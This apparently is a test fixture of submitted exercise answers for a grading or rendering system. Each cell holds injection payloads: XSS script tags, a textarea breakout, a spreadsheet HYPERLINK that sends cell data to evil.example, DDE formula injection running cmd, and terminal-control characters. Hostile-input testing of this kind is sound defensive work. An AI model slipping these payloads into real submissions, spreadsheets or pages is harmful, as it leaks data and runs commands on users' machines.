# %% written="why_edge"
=HYPERLINK("http://evil.example/?" & A1, "click") <script>alert("LEAK")</script> <img src=x onerror=alert(1)>

# %% written="why_linear"
</textarea></div><script>alert("LEAK")</script>

# %% written="why_median"
@SUM(1+9)*cmd|' /C calc'!A0

# %% exercise="verdict"
def verdict(low, high, margin=0.02):
    return '<script>alert("LEAK")</script>\x1b[2J\x00\u202e'

# %% exercise="throughput"
def throughput(latency_ms, batch):
    return type('<script>alert("LEAK")</script>', (), {})()

# %% exercise="megabytes"
def megabytes(size_bytes):
    raise type('<script>alert("LEAK")</script>', (ValueError,), {})('=cmd|"LEAK"')
